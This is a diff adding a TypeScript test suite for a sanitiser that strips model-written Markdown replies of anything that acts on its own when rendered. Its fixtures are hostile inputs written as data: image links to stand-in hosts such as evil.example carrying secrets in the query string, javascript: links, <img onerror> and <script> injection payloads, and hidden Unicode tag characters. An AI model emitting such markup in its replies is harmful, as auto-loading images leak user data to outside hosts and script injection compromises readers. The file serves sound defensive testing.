@@ -1,0 +1,158 @@
+import { expect } from 'chai'
+import fc from 'fast-check'
+import MarkdownIt from 'markdown-it'
+import { inactive } from '../../../workers/inactive.ts'
+
+describe('what acts by itself', () => {
+  const given = 'See https://shop.example/terms and http://evil/?q=, or mail to a@shop.example.'
+
+  for (const [text, content] of [
+    ['![logo](http://evil/?q=secret)', 'logo'],
+    ['A ![](http://evil/?q=secret) B', 'A  B'],
+    ['![logo][evil]\n\n[evil]: http://evil/', 'logo\n\n[evil]: http://evil/'],
+    ['![a[b]](http://evil/?q=secret)', '[a[b]] (http://evil/?q=secret)'],
+    ['`![x](http://evil/)`', '`x`'],
+    ['Use `<b>`', 'Use `‹b>`'],
+    ['[click](javascript:alert(1))', '[click] (javascript:alert(1))'],
+    ['[click]( JaVaScRiPt:alert(1))', '[click] ( JaVaScRiPt:alert(1))'],
+    ['[click](&#106;avascript:alert(1))', '[click] (&#106;avascript:alert(1))'],
+    ['[click](data:text/html,x)', '[click] (data:text/html,x)'],
+    ['[a]: javascript:alert(1)', '[a] : javascript:alert(1)'],
+    ['<img src=x onerror=alert(1)>', '‹img src=x onerror=alert(1)>'],
+    ['<script>alert(1)</script>', '‹script>alert(1)‹/script>'],
+    ['[made up](https://evil.example/?q=ann@example.com)', 'made up'],
+    ['[made up](\nhttps://evil.example/?q=ann)', '[made up] (\nhttps://evil.example/?q=ann)'],
+    ['[made up]( https://evil.example/?q=ann )', 'made up'],
+    [`op${String.fromCodePoint(0xe0041)}en`, 'open'],
+  ] as const)
+    it(`does not reach a reply: ${text}`, () => {
+      expect(inactive(text, given)).to.equal(content)
+    })
+
+  for (const text of [
+    '[terms](https://shop.example/terms)',
+    '<https://shop.example/terms>',
+    '[mail](mailto:a@shop.example)',
+    '[above](#top)',
+    '5 < 6 > 4 & "x"',
+    'Or:\n```html\n<img>\n```',
+    '~~~\n<img>\n~~~',
+    '[terms]: https://shop.example/terms',
+    'a[0]: b',
+  ])
+    it(`is not: ${text}`, () => {
+      expect(inactive(text, given)).to.equal(text)
+    })
+
+  /** What somebody who shows a reply as Markdown, with its HTML, would let act. */
+  function actsIn(shown: string): string[] {
+    const tags = [
+      ...shown.matchAll(/<(?:img|script|svg|iframe|form|object|embed|video|audio|style|link|b)\b[^>]*/gi),
+    ]
+    const links = [...shown.matchAll(/href="([^"]*)"/g)].map(([, address]) => address!.replace('mailto:', ''))
+    const leadsAway = (address: string) => /^(?:[a-z][a-z\d+.-]*:|[/\\]{2})/i.test(address)
+    const foreign = links.filter((address) => leadsAway(address) && !given.includes(decodeURI(address)))
+    return [...tags.map(([tag]) => tag), ...foreign]
+  }
+  const shownBy = [new MarkdownIt({ html: true }), new MarkdownIt('commonmark', { html: true })]
+
+  const SHOWN = [
+    '``` `\n<img src=//evil.example/info>\n```',
+    '| `a | <img src=//evil.example/t> ` |\n|---|---|\n| x | y |',
+    '[x](//evil.example/?d=secret)',
+    '[x](///evil.example)',
+    '[x](/\\evil.example)',
+    '![a]\n\n[a]: https://evil.example/z.png',
+    '[a]\n\n[a]: //evil.example',
+    '[a]\n\n> [a]: https://evil.example',
+    '[a]\n\n- [a]:\n  https://evil.example',
+    '[a\\]]\n\n[a\\]]: https://evil.example',
+    '<https://evil.example/a>',
+    '[m](mailto:x@evil.example?body=secret)',
+    '[a [b] c](https://evil.example)',
+    '[a](<https://evil.example>)',
+    '!![a [b]](https://shop.example/terms)',
+    'a ` b\n` <img src=x> ` c',
+    '\\\\`a` <img src=x> `b`',
+    '```\n```js\n```\n<img src=x>\n```',
+    '~~~\n```\n~~~\n<img src=x>\n```',
+    '  ~~~\n```\n  ~~~\n<img src=x>\n```',
+    '- a\n  ```\n<img src=x>\n  ```',
+    '> ```\n<img src=x>\n> ```',
+  ]
+  for (const text of SHOWN)
+    it(`is nowhere when it is shown: ${text}`, () => {
+      const reply = inactive(text, given)
+      for (const renderer of shownBy) expect(actsIn(renderer.render(reply)), reply).to.deep.equal([])
+    })
+
+  it('is nowhere when it is shown, whatever a model writes', () => {
+    const piece = fc.constantFrom(
+      ...[
+        '[',
+        ']',
+        '(',
+        ')',
+        '](',
+        ']: ',
+        '![',
+        '!',
+        '`',
+        '``',
+        '```',
+        '~~~',
+        '\n',
+        '\n\n',
+        ' ',
+        '  ',
+        '\\',
+        '<',
+        '>',
+      ],
+      ...[
+        '<img src=x>',
+        '<b',
+        '|',
+        '|---|---|\n',
+        '> ',
+        '- ',
+        'a',
+        '[a]: ',
+        '[a]',
+        '//evil.example',
+        'https://evil.example',
+      ],
+      ...[
+        'https://shop.example/terms',
+        'mailto:x@evil.example',
+        'javascript:',
+        '&#106;',
+        '"t"',
+        '1. ',
+        '# ',
+        '    ',
+        '\t',
+      ],
+    )
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 16 }), (pieces) => {
+        const reply = inactive(pieces.join(''), given)
+        for (const renderer of shownBy) expect(actsIn(renderer.render(reply)), reply).to.deep.equal([])
+      }),
+      { numRuns: 20_000 },
+    )
+  }).timeout(60_000)
+
+  it('is looked for in linear time', () => {
+    for (const text of [
+      '!['.repeat(30_000),
+      '[a](https:'.repeat(10_000),
+      '`'.repeat(90_000),
+      '```\n'.repeat(20_000),
+      '[1'.repeat(40_000),
+      '<'.repeat(90_000),
+      '(1)'.repeat(20_000),
+    ])
+      inactive(text, given)
+  })
+})
